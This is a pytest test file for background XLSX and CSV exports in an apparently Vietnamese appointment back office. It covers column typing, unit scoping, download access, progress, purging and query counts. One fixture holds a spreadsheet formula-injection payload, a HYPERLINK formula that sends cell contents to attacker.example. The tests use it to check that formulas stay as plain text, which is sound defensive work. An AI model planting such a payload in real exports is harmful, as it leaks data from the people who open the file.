"""Background exports: typed XLSX and Excel-ready CSV with the counter's columns, formulas kept as text, only the
officer's own rows and own files, progress, purge, and a query count that does not grow with the rows."""

import csv
import io
import zipfile
from datetime import date, datetime, time, timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.backoffice import roles
from apps.backoffice.models import AuditLogEntry
from apps.exports.models import ExportJob
from apps.exports.selectors import export_job_rows_done, progress_cache_key
from apps.exports.services import export_job_purge_expired, export_job_request, export_job_run
from tests.backoffice.factories import OfficerFactory, appointment_create

from .helpers import export_through_admin

pytestmark = pytest.mark.django_db

NOW = timezone.make_aware(datetime(2026, 12, 3, 9, 0))  # Thursday
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
URL = reverse("admin:appointments_appointment_changelist")


def _at(day_offset: int, hour: int, minute: int = 0) -> datetime:
    return timezone.make_aware(datetime.combine(NOW.date() + timedelta(days=day_offset), time(hour, minute)))


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def bookings(ward_a, ward_b):
    booked = appointment_create(unit=ward_a, starts_at=_at(1, 8, 30), name="NGUYỄN THỊ HỒNG NHUNG")
    cancelled = appointment_create(
        unit=ward_a,
        starts_at=_at(2, 14),
        status="cancelled",
        name="TRẦN VĂN BA",
        phone="+84912345678",
        id_number="001203004567",
        cancel_reason=FORMULA,
    )
    other_unit = appointment_create(unit=ward_b, starts_at=_at(1, 9), name="PHƯỜNG KHÁC")
    return booked, cancelled, other_unit


def _all_rows(client, capture, fmt: str, query: str = ""):
    return export_through_admin(
        client, capture, f"{URL}{query}", {"action": f"export_{fmt}", "select_across": "1", "_selected_action": ["0"]}
    )


def test_xlsx_has_typed_columns_the_counters_columns_and_translated_statuses(
    client, counter_a, bookings, django_capture_on_commit_callbacks
):
    client.force_login(counter_a)
    job, content = _all_rows(client, django_capture_on_commit_callbacks, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == [
        "Mã hồ sơ",
        "Họ tên",
        "Số điện thoại",
        "Số CCCD",
        "Thủ tục",
        "Đơn vị",
        "Ngày",
        "Giờ",
        "Trạng thái",
        "Đặt lúc",
        "Lý do hủy",
    ]
    assert len(rows) == 3  # the header and ward A's two bookings; ward B's is not this officer's
    first = {rows[0][i].value: cell for i, cell in enumerate(rows[1])}
    assert first["Họ tên"].value == "NGUYỄN THỊ HỒNG NHUNG"
    assert first["Số điện thoại"].value == "0901 234 567"
    assert first["Số CCCD"].value == "079203001234" and first["Số CCCD"].data_type == "s"  # the leading zero stays
    assert first["Ngày"].value == datetime(2026, 12, 4) and first["Ngày"].number_format == "DD/MM/YYYY"
    assert first["Giờ"].value == time(8, 30) and first["Giờ"].number_format == "HH:MM"
    assert first["Đặt lúc"].value == datetime(2026, 12, 2, 8, 30)
    assert first["Đặt lúc"].number_format == "DD/MM/YYYY HH:MM"
    assert first["Trạng thái"].value == "Đã đặt"
    second = [c.value for c in rows[2]]
    assert "Đã hủy" in second and "0912 345 678" in second
    assert job.rows_total == 2 and job.rows_done == 2
    assert not any("<" in str(c.value) for row in rows for c in row)  # no HTML anywhere


def test_a_formula_typed_by_someone_stays_text_in_xlsx(client, counter_a, bookings, django_capture_on_commit_callbacks):
    client.force_login(counter_a)
    _job, content = _all_rows(client, django_capture_on_commit_callbacks, "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    [reason] = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert reason.value == FORMULA and reason.data_type == "s"


def test_csv_opens_in_vietnamese_excel_and_neutralises_formulas(
    client, counter_a, bookings, django_capture_on_commit_callbacks
):
    client.force_login(counter_a)
    job, content = _all_rows(client, django_capture_on_commit_callbacks, "csv")
    assert job.filename.endswith(".csv")
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    text = content[3:].decode("utf-8")
    assert "\r\n" in text
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert lines[0][:4] == ["Mã hồ sơ", "Họ tên", "Số điện thoại", "Số CCCD"]
    assert lines[1][6:9] == ["04/12/2026", "08:30", "Đã đặt"]
    assert lines[2][-1] == "'" + FORMULA
    assert lines[2][3] == "001203004567"


def test_filters_of_the_list_apply_and_the_request_is_audited(
    client, counter_a, bookings, django_capture_on_commit_callbacks
):
    client.force_login(counter_a)
    job, content = _all_rows(client, django_capture_on_commit_callbacks, "csv", "?status__exact=cancelled")
    lines = content.decode("utf-8-sig").strip().split("\r\n")
    assert len(lines) == 2 and "TRẦN VĂN BA" in lines[1]
    entry = AuditLogEntry.objects.get(action="export")
    assert entry.user == counter_a and "status__exact=cancelled" in entry.detail


def test_ticked_rows_only_and_never_another_units(client, counter_a, bookings, django_capture_on_commit_callbacks):
    booked, _cancelled, other_unit = bookings
    client.force_login(counter_a)
    _job, content = export_through_admin(
        client,
        django_capture_on_commit_callbacks,
        URL,
        {"action": "export_csv", "_selected_action": [booked.pk, other_unit.pk]},
    )
    text = content.decode("utf-8-sig")
    assert "NGUYỄN THỊ HỒNG NHUNG" in text and "PHƯỜNG KHÁC" not in text and "TRẦN VĂN BA" not in text


def test_only_the_officer_who_asked_sees_and_downloads_the_file(
    client, counter_a, ward_a, bookings, django_capture_on_commit_callbacks
):
    client.force_login(counter_a)
    job, _content = _all_rows(client, django_capture_on_commit_callbacks, "xlsx")
    colleague = OfficerFactory(username="quay2.p1", units=[ward_a], roles=[roles.COUNTER_OFFICER])
    client.force_login(colleague)
    assert client.get(reverse("admin:exports_exportjob_download", args=[job.pk])).status_code == 404
    page = client.get(reverse("admin:exports_exportjob_changelist"))
    assert page.status_code == 200 and list(page.context["cl"].result_list) == []
    client.force_login(counter_a)
    page = client.get(reverse("admin:exports_exportjob_changelist"))
    assert list(page.context["cl"].result_list) == [job]
    assert reverse("admin:exports_exportjob_download", args=[job.pk]) in page.content.decode()


def test_a_waiting_export_shows_progress_and_the_page_refreshes(client, counter_a, bookings):
    client.force_login(counter_a)
    from django.contrib import admin

    from apps.appointments.models import Appointment

    job = export_job_request(
        user=counter_a,
        model_admin=admin.site._registry[Appointment],
        query_string="",
        selected_ids=None,
        fmt="csv",
        language="vi",
    )
    ExportJob.objects.filter(pk=job.pk).update(status="running", rows_total=300_000)
    job.refresh_from_db()
    from django.core.cache import cache

    cache.set(progress_cache_key(job.pk), 120_000)
    assert export_job_rows_done(job=job) == 120_000
    page = client.get(reverse("admin:exports_exportjob_changelist")).content.decode()
    assert "120.000 / 300.000 (40 %)" in page
    assert '<meta http-equiv="refresh" content="5">' in page


def _job_for(user, fmt):
    from django.contrib import admin

    from apps.appointments.models import Appointment

    return export_job_request(
        user=user,
        model_admin=admin.site._registry[Appointment],
        query_string="",
        selected_ids=None,
        fmt=fmt,
        language="vi",
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_the_rows(district_admin, ward_a, fmt):
    def queries_for_new_job():
        job = _job_for(district_admin, fmt)
        with CaptureQueriesContext(connection) as queries:
            job = export_job_run(job_id=job.pk)
        assert job.status == "done"
        return job.rows_done, len(queries)

    appointment_create(unit=ward_a, starts_at=_at(1, 8))
    few = queries_for_new_job()
    for i in range(40):
        appointment_create(unit=ward_a, starts_at=_at(1 + i // 20, 7, 15 * (i % 4)), name=f"NGƯỜI {i}")
    many = queries_for_new_job()
    assert (few[0], many[0]) == (1, 41)
    assert few[1] == many[1]


def test_old_exports_and_their_files_are_purged(district_admin, ward_a, exports_storage):
    appointment_create(unit=ward_a, starts_at=_at(1, 8))
    old = export_job_run(job_id=_job_for(district_admin, "csv").pk)
    old_file = exports_storage / old.file_name
    assert old_file.exists()
    with time_machine.travel(NOW + timedelta(hours=23), tick=False):
        recent = export_job_run(job_id=_job_for(district_admin, "csv").pk)
    with time_machine.travel(NOW + timedelta(hours=25), tick=False):
        assert export_job_purge_expired() == 1
    assert list(ExportJob.objects.all()) == [recent]
    assert not old_file.exists() and (exports_storage / recent.file_name).exists()


def test_a_failed_export_says_so_without_a_file(district_admin, monkeypatch):
    job = _job_for(district_admin, "xlsx")
    monkeypatch.setattr("apps.exports.services._write", lambda job: 1 / 0)
    job = export_job_run(job_id=job.pk)
    assert job.status == "failed" and not job.file_name
    assert job.error == "Không chuẩn bị được tệp xuất. Vui lòng thử lại hoặc báo quản trị viên."


def test_dates_are_day_first_in_csv():
    from apps.exports.writers import csv_text

    assert csv_text(date(2026, 2, 1)) == "01/02/2026"
    assert csv_text(time(7, 5)) == "07:05"
    assert csv_text("+84912345678") == "'+84912345678"
    assert csv_text("-1+1") == "'-1+1"
    assert csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("Nguyễn") == "Nguyễn"
